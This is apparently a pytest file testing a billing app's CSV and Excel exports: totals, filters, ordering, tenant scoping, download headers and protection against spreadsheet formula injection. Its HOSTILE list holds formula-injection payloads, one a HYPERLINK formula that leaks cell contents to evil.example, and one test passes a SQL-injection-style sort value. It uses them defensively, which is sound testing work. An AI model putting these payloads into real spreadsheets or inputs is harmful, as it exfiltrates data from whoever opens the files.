"""Downloads of the Billing Plan and the invoice list as CSV and Excel: the same totals as the pages (the files read
back with the csv module and openpyxl), every client matching the page's filter (not one page), formula
injection made inert, only the signed-in practice's data, and the headers a download needs."""
import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.factories import (
    LONG_AGO,
    make_account,
    make_client,
    make_connection,
    make_engagement,
    make_invoice,
    make_service,
    make_user,
)
from tests.helpers import HTMX, login
from webapp.clock import local_today
from webapp.extensions import db
from webapp.models import BillingMethod, BillingSettings, Client, Engagement, Role, XeroTaxRate
from webapp.services.billing.approval import approve_plan
from webapp.services.billing.changes import Change
from webapp.services.billing.dates import InvoiceDating
from webapp.services.billing.exports import BOM, Column, Kind, Table, csv_chunks, inert, xlsx_bytes
from webapp.services.billing.invoices import invoice_page
from webapp.services.billing.plan_page import PER_PAGE, PlanQuery, plan_page
from webapp.services.billing.tax import tax_reference

NOV = date(2026, 11, 1)
PLAN = "/billing/plan/export"
INVOICES = "/billing/invoices/export"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PLAN_HEADINGS = ["Client", "Client code", "Services", "Last month (net)", "This month (net)", "Difference", "VAT",
                 "This month incl. VAT", "Agreed work", "Invoice date", "Invoice number", "Xero status",
                 "Xero number"]
INVOICE_HEADINGS = ["Number", "Client", "Client code", "Invoice date", "Due date", "Net", "VAT", "Total", "Status",
                    "Xero status", "Xero number"]
HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+44 20 7946 0000 Ltd", "-2+3 Ltd", "@SUM(A1) Ltd",
           "\tTabbed Ltd"]


def connect_xero(practice_id):
    """Xero connected with a 20% rate on the practice's recurring account, so every preview's VAT is known."""
    make_connection(practice_id, tenant_id=f"t-{practice_id}")
    make_account(practice_id, "200", "Sales", tax_type="OUTPUT2")
    db.session.add(XeroTaxRate(practice_id=practice_id, tax_type="OUTPUT2", name="20% (VAT on Income)",
                               status="ACTIVE", effective_rate="20.0000"))
    db.session.get(BillingSettings, practice_id).recurring_account_code = "200"
    db.session.commit()


@pytest.fixture
def book(owner):
    """70 clients on monthly bookkeeping with Xero's VAT: 55 billed as last month (prices in pence), 10 new this
    month, 5 whose work ended last month; and a payroll client for the search."""
    pid = owner.practice_id
    connect_xero(pid)
    books = make_service(pid, "Monthly Bookkeeping", BillingMethod.MONTHLY, "100.00")
    people = ([(f"Client {n:03d} Ltd", f"C{n:03d}", Decimal("100.05") + n, LONG_AGO, None) for n in range(55)]
              + [(f"Newco {n:02d} Ltd", f"N{n:02d}", Decimal("250.00"), date(2026, 11, 5), None) for n in range(10)]
              + [(f"Leaver {n} Ltd", f"L{n}", Decimal("80.00"), LONG_AGO, date(2026, 10, 31)) for n in range(5)])
    for name, code, price, start, end in people:
        client = Client(practice_id=pid, name=name, code=code)
        client.engagements.append(Engagement(practice_id=pid, service_id=books.id, price=price, start_date=start,
                                             end_date=end))
        db.session.add(client)
    db.session.commit()
    make_engagement(make_client(pid, "Zephyr Payroll Ltd", "ZEP01"), make_service(pid, "Payroll", price="120.00"))
    return pid


def page_of(pid):
    """November's Billing Plan page, unfiltered, as the owner sees it today."""
    return plan_page(pid, NOV, PlanQuery(), today=local_today("Europe/London"), dating=InvoiceDating.TODAY)


def workbook(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return load_workbook(io.BytesIO(response.get_data())).active


def sheet_rows(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = response.get_data().decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM):])))


def money(value) -> Decimal | None:
    """A money cell as read back: a float from the workbook, a plain decimal string from the CSV."""
    if value in (None, ""):
        return None
    return Decimal(str(value)).quantize(Decimal("0.01"))


def page_figure(html: str, element_id: str) -> Decimal:
    found = re.search(rf'id="{element_id}"[^>]*>\s*(?:<strong>)?[+-]?£([\d,]+\.\d\d)', html)
    assert found, element_id
    return Decimal(found.group(1).replace(",", ""))


# --- the Billing Plan -------------------------------------------------------------------------------------------

def test_the_plan_workbook_has_the_pages_totals_and_every_client(client, owner, book):
    login(client, owner)
    html = client.get("/billing/plan?month=2026-11").get_data(as_text=True)
    sheet = workbook(client.get(f"{PLAN}.xlsx?month=2026-11"))
    rows = sheet_rows(sheet)
    summary = page_of(book).summary
    header, body, totals = rows[0], rows[1:-1], rows[-1]
    assert header == PLAN_HEADINGS
    assert len(body) == summary.billed + summary.ended == 71  # every client, not the page's 50
    assert totals[0] == "Total (71 clients)"
    # The totals row holds values (not formulas), equal to the page's figures.
    assert money(totals[3]) == summary.last_month == page_figure(html, "total-last-month")
    assert money(totals[4]) == summary.this_month == page_figure(html, "total-this-month")
    assert money(totals[5]) == summary.this_month - summary.last_month == page_figure(html, "total-difference")
    assert summary.vat is not None and money(totals[6]) == summary.vat
    assert money(totals[7]) == summary.this_month + summary.vat
    assert f"+ VAT £{summary.vat:,.2f}" in html
    # The same counts by change type as the page's header.
    for change in Change:
        assert sum(row[8] == change.label for row in body) == summary.counts[change.value], change
    # The rows sum to the totals (so the totals row is not a figure of its own).
    assert sum(money(row[4]) for row in body) == summary.this_month
    assert sum(money(row[6]) for row in body) == summary.vat


def test_the_plan_workbook_is_typed_and_laid_out(client, owner, book):
    login(client, owner)
    sheet = workbook(client.get(f"{PLAN}.xlsx?month=2026-11"))
    assert sheet.title == "Billing Plan November 2026"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert all(cell.font.b for cell in sheet[sheet.max_row])
    assert sheet.auto_filter.ref == f"A1:M{sheet.max_row - 1}"
    assert sheet.column_dimensions["A"].width >= 30 and sheet.column_dimensions["C"].width >= 30
    client_row = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "C001")
    assert client_row[0].value == "Client 001 Ltd" and client_row[2].value == "Monthly Bookkeeping"
    for cell in client_row[3:8]:
        assert cell.data_type == "n" and cell.number_format == '"£"#,##0.00', cell.coordinate
    assert money(client_row[4].value) == Decimal("101.05") and money(client_row[6].value) == Decimal("20.21")
    assert money(client_row[7].value) == Decimal("121.26") and money(client_row[5].value) == Decimal("0.00")
    assert client_row[8].value == Change.UNCHANGED.label
    assert client_row[9].is_date and isinstance(client_row[9].value, datetime)
    # Invoiced today once its invoice day has passed, as the page's preview shows it.
    preview = next(row for row in page_of(book).rows if row.client.code == "C001").preview
    assert client_row[9].value.date() == preview.issue_date
    leaver = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == "L0")
    assert [money(cell.value) for cell in leaver[3:8]] == [Decimal("80.00"), Decimal("0.00"), Decimal("-80.00"),
                                                           Decimal("0.00"), Decimal("0.00")]
    assert leaver[9].value is None and leaver[8].value == Change.ENDED.label


def test_the_plan_csv_parses_to_the_same_numbers(client, owner, book):
    login(client, owner)
    response = client.get(f"{PLAN}.csv?month=2026-11")
    rows = csv_rows(response)
    summary = page_of(book).summary
    header, body, totals = rows[0], rows[1:-1], rows[-1]
    assert header == PLAN_HEADINGS and len(body) == 71
    assert totals[0] == "Total (71 clients)"
    assert [Decimal(value) for value in totals[3:8]] == [
        summary.last_month, summary.this_month, summary.this_month - summary.last_month, summary.vat,
        summary.this_month + summary.vat]
    assert sum(Decimal(row[4]) for row in body) == summary.this_month
    first = next(row for row in body if row[1] == "C001")
    # Plain decimals (no £, no thousands separator) and ISO dates.
    assert first[3:8] == ["101.05", "101.05", "0.00", "20.21", "121.26"]
    assert date.fromisoformat(first[9])


def test_the_plan_export_lists_clients_in_the_pages_order(client, owner, book):
    login(client, owner)
    for sort in ("name", "amount", "decrease"):
        html = client.get(f"/billing/plan?month=2026-11&sort={sort}").get_data(as_text=True)
        page_codes = re.findall(r'class="plan-row" data-client-code="([^"]+)"', html)
        exported = [row[1] for row in csv_rows(client.get(f"{PLAN}.csv?month=2026-11&sort={sort}&page=2"))[1:-1]]
        assert exported[:PER_PAGE] == page_codes, sort  # the page's first page: the file starts there, page or not


def test_the_plan_export_honours_the_change_type_and_search(client, owner, book):
    login(client, owner)
    new = csv_rows(client.get(f"{PLAN}.csv?month=2026-11&change=new"))
    assert [row[1] for row in new[1:-1]] == [f"N{n:02d}" for n in range(10)]
    assert new[-1][0] == "Total (10 clients)" and new[-1][4] == "2500.00" and new[-1][6] == "500.00"
    searched = workbook(client.get(f"{PLAN}.xlsx?month=2026-11&q=client 04"))
    assert [row[1] for row in sheet_rows(searched)[1:-1]] == [f"C{n:03d}" for n in range(40, 50)]
    assert sheet_rows(searched)[-1][0] == "Total (10 clients)"
    # A bad change type or sort falls back as the page's do: every client, by name.
    fallback = csv_rows(client.get(f"{PLAN}.csv?month=2026-11&change=bogus&sort=%27%3Bdrop"))
    assert len(fallback) == 73 and fallback[1][1] == "C000"
    nobody = csv_rows(client.get(f"{PLAN}.csv?month=2026-11&q=nobody-at-all"))
    assert nobody[1:] == [["Total (0 clients)", "", "", "0.00", "0.00", "0.00", "0.00", "0.00", "", "", "", "", ""]]


def test_an_approved_month_exports_its_invoices_numbers_and_posting_state(client, owner, book):
    approve_plan(book, NOV, None)
    login(client, owner)
    body = sheet_rows(workbook(client.get(f"{PLAN}.xlsx?month=2026-11")))[1:-1]
    billed = [row for row in body if row[1] != "L0" and not row[1].startswith("L")]
    assert len(billed) == 66
    assert all(re.fullmatch(r"SKT-\d+", row[10]) and row[11] == "Waiting to post" and row[12] is None
               for row in billed)
    invoice_dates = {row[9].date() for row in billed}
    assert len(invoice_dates) == 1  # every invoice's own date (dated on the invoice day at approval)


def test_an_empty_month_exports_just_its_headings_and_a_zero_total(client, owner):
    login(client, owner)
    rows = csv_rows(client.get(f"{PLAN}.csv?month=2026-11"))
    assert rows[0] == PLAN_HEADINGS and rows[1][0] == "Total (0 clients)" and len(rows) == 2


def test_the_plan_export_costs_the_same_statements_at_any_size(client, owner, book, count_statements):
    login(client, owner)
    client.get(f"{PLAN}.csv?month=2026-11")  # stores the month's plan
    with count_statements() as small:
        assert client.get(f"{PLAN}.csv?month=2026-11&change=new").status_code == 200
    with count_statements() as large:
        assert len(csv_rows(client.get(f"{PLAN}.csv?month=2026-11"))) == 73
    assert len(small) == len(large) <= 8, large


# --- the invoice list -------------------------------------------------------------------------------------------

@pytest.fixture
def invoiced(book):
    """November approved (66 invoices, VAT known) and an October invoice whose rate Xero has not synced."""
    approve_plan(book, NOV, None)
    old = make_client(book, "October Only Ltd", "OCT01")
    invoice = make_invoice(old, number="SKT-000900", period=date(2026, 10, 1), amount="99.99")
    invoice.lines[0].tax_type = "EXEMPTOUTPUT"  # a rate Xero has not synced: its VAT is not known
    db.session.commit()
    return book


def listing_figures(pid, period):
    """Every invoice the list shows (over all its pages), with its net, VAT and total as the page works them out."""
    reference = tax_reference(pid)
    listing = invoice_page(pid, period, 1, per_page=10_000)
    return [(invoice.number, reference.tax(invoice.lines)) for invoice in listing.invoices]


def test_the_invoice_workbook_has_the_lists_invoices_and_totals(client, owner, invoiced):
    login(client, owner)
    html = client.get("/billing/invoices?month=2026-11").get_data(as_text=True)
    rows = sheet_rows(workbook(client.get(f"{INVOICES}.xlsx?month=2026-11")))
    expected = listing_figures(invoiced, NOV)
    header, body, totals = rows[0], rows[1:-1], rows[-1]
    assert header == INVOICE_HEADINGS
    assert [row[0] for row in body] == [number for number, _ in expected]  # the list's order, every page
    assert totals[0] == "Total (66 invoices)"
    net = sum(tax.net for _, tax in expected)
    vat = sum(tax.vat for _, tax in expected)
    assert (money(totals[5]), money(totals[6]), money(totals[7])) == (net, vat, net + vat)
    # Each row as the page shows it.
    first = body[0]
    number, tax = expected[0]
    assert f'>{number}</a>' in html and f'<td class="num invoice-vat" data-label="VAT">£{tax.vat:,.2f}</td>' in html
    assert (money(first[5]), money(first[6]), money(first[7])) == (tax.net, tax.vat, tax.total)
    assert first[8] == "Raised" and first[3].date() <= first[4].date()


def test_the_invoice_csv_for_all_months_leaves_unknown_vat_blank(client, owner, invoiced):
    login(client, owner)
    response = client.get(f"{INVOICES}.csv")
    assert 'filename="socket-invoices.csv"' in response.headers["Content-Disposition"]
    rows = csv_rows(response)
    assert len(rows) == 1 + 67 + 1 and rows[-1][0] == "Total (67 invoices)"
    october = next(row for row in rows if row[0] == "SKT-000900")
    assert october[1:8] == ["October Only Ltd", "OCT01", "2026-10-01", "2026-10-15", "99.99", "", ""]
    # One invoice's VAT unknown: the totals say so by leaving VAT and Total blank, as the page shows "—".
    assert rows[-1][5] == str(sum(tax.net for _, tax in listing_figures(invoiced, None)))
    assert rows[-1][6:8] == ["", ""]
    # A month the list cannot read shows every invoice, on the page and in the file.
    assert len(csv_rows(client.get(f"{INVOICES}.csv?month=nonsense"))) == len(rows)


# --- formula injection ------------------------------------------------------------------------------------------

def test_text_a_spreadsheet_would_run_as_a_formula_is_made_inert(client, owner, book):
    pid = book
    payroll = make_service(pid, "=1+1 Payroll", price="10.00")
    for number, name in enumerate(HOSTILE):
        make_engagement(make_client(pid, name, f"HOS{number:02d}"), payroll)
    approve_plan(pid, NOV, None)
    login(client, owner)
    for path in (f"{PLAN}.csv?month=2026-11&q=HOS", f"{INVOICES}.csv?month=2026-11"):
        rows = csv_rows(client.get(path))
        names = {row[1] if path.startswith(PLAN) else row[2]: row for row in rows[1:-1]}
        for number, name in enumerate(HOSTILE):
            row = names[f"HOS{number:02d}"]
            shown = row[0] if path.startswith(PLAN) else row[1]
            assert shown == "'" + name, path
        if path.startswith(PLAN):
            assert all(row[2] == "'=1+1 Payroll" for row in rows[1:-1])
    for path in (f"{PLAN}.xlsx?month=2026-11&q=HOS", f"{INVOICES}.xlsx?month=2026-11"):
        response = client.get(path)
        sheet = workbook(response)
        cells = [cell for row in sheet.iter_rows() for cell in row]
        hostile = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(
            ("=", "+", "-", "@", "\t"))]
        assert len(hostile) >= len(HOSTILE)
        for cell in hostile:  # shown as typed, but text: never a formula, even once edited
            assert cell.data_type == "s" and cell.quotePrefix, (path, cell.coordinate, cell.value)
        with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
            assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_inert_prefixes_only_what_starts_like_a_formula():
    assert [inert(text) for text in ("=A1", "+1", "-1", "@A", "\tx", "\rx", "\uff1dA1", "Abbott", "a=b", "")] == [
        "'=A1", "'+1", "'-1", "'@A", "'\tx", "'\rx", "'\uff1dA1", "Abbott", "a=b", ""]


def test_the_writers_leave_negative_amounts_as_numbers_and_strip_what_excel_cannot_hold():
    table = Table("Odd: [name]?", (Column("Name"), Column("Amount", Kind.MONEY, summed=True)),
                  [("Bell\x07 Ltd", Decimal("-12.50")), ("Plain", Decimal("2.50"))], "row")
    sheet = load_workbook(io.BytesIO(xlsx_bytes(table))).active
    assert sheet.title == "Odd   name"
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Name", "Amount"], ["Bell Ltd", -12.5], ["Plain", 2.5], ["Total (2 rows)", -10]]
    text = b"".join(csv_chunks(table)).decode("utf-8")
    assert text == BOM + "Name,Amount\r\nBell\x07 Ltd,-12.50\r\nPlain,2.50\r\nTotal (2 rows),-10.00\r\n"


# --- scoping, access, bad input, headers ------------------------------------------------------------------------

def test_another_practices_clients_and_invoices_never_appear(client, owner, other_owner, invoiced):
    login(client, other_owner)
    for path in (f"{PLAN}.csv?month=2026-11", f"{INVOICES}.csv", f"{INVOICES}.csv?month=2026-11"):
        rows = csv_rows(client.get(path))
        assert len(rows) == 2 and rows[1][0].startswith("Total (0 "), path
    for path in (f"{PLAN}.xlsx?month=2026-11", f"{INVOICES}.xlsx"):
        body = client.get(path).get_data()
        assert len(sheet_rows(load_workbook(io.BytesIO(body)).active)) == 2, path


def test_staff_may_download_both(client, owner, invoiced):
    login(client, make_user(owner.practice_id, Role.STAFF))
    assert len(csv_rows(client.get(f"{PLAN}.csv?month=2026-11"))) == 73
    assert len(sheet_rows(workbook(client.get(f"{INVOICES}.xlsx")))) == 69


@pytest.mark.parametrize("month", ["2026-13", "nonsense", "%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-11", "1999-12"])
def test_a_month_socket_cannot_read_is_refused_not_swapped_for_another(client, owner, book, month):
    login(client, owner)
    for kind in ("csv", "xlsx"):
        response = client.get(f"{PLAN}.{kind}?month={month}")
        assert response.status_code == 400
        assert "Content-Disposition" not in response.headers
        assert "That is not a month Socket understands (use YYYY-MM)" in response.get_data(as_text=True)


def test_the_downloads_carry_their_type_name_and_security_headers(client, owner, book):
    login(client, owner)
    this_month = local_today("Europe/London").strftime("%Y-%m")
    for path, kind, name in [(f"{PLAN}.csv", "text/csv; charset=utf-8", f"socket-billing-plan-{this_month}.csv"),
                             (f"{PLAN}.xlsx?month=2026-11", XLSX_TYPE, "socket-billing-plan-2026-11.xlsx"),
                             (f"{INVOICES}.csv?month=2026-11", "text/csv; charset=utf-8",
                              "socket-invoices-2026-11.csv"),
                             (f"{INVOICES}.xlsx", XLSX_TYPE, "socket-invoices.xlsx")]:
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.headers["Content-Type"] == kind
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.headers["Cache-Control"] == "private, no-store"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
        assert "default-src 'self'" in response.headers["Content-Security-Policy"]


def test_signed_out_downloads_ask_to_sign_in(client, book):
    response = client.get(f"{PLAN}.xlsx?month=2026-11")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


# --- the Export menu --------------------------------------------------------------------------------------------

def test_the_plans_export_menu_links_carry_the_filters_shown_but_not_the_page(client, owner, book):
    login(client, owner)
    for headers in ({}, HTMX):  # the page, and the fragment the filter swaps in
        html = client.get("/billing/plan?month=2026-11&change=unchanged&q=client&sort=amount&page=2",
                          headers=headers).get_data(as_text=True)
        assert '<details class="dropdown export-menu" id="export-menu">' in html
        for kind in ("xlsx", "csv"):
            assert (f'href="/billing/plan/export.{kind}?month=2026-11&amp;change=unchanged&amp;q=client&amp;'
                    f'sort=amount" download') in html
    plain = client.get("/billing/plan?month=2026-11").get_data(as_text=True)
    assert 'href="/billing/plan/export.xlsx?month=2026-11" download' in plain


def test_the_invoice_lists_export_menu_links_carry_its_month(client, owner, invoiced):
    login(client, owner)
    html = client.get("/billing/invoices?month=2026-11").get_data(as_text=True)
    assert 'href="/billing/invoices/export.csv?month=2026-11" download' in html
    assert 'aria-label="Export invoices for November 2026"' in html
    html = client.get("/billing/invoices").get_data(as_text=True)
    assert 'href="/billing/invoices/export.xlsx" download' in html
    assert 'aria-label="Export all invoices"' in html


def test_no_export_is_offered_when_the_page_lists_nobody(client, owner):
    login(client, owner)
    assert 'id="export-menu"' not in client.get("/billing/plan?month=2026-11").get_data(as_text=True)
    assert 'id="export-menu"' not in client.get("/billing/invoices").get_data(as_text=True)
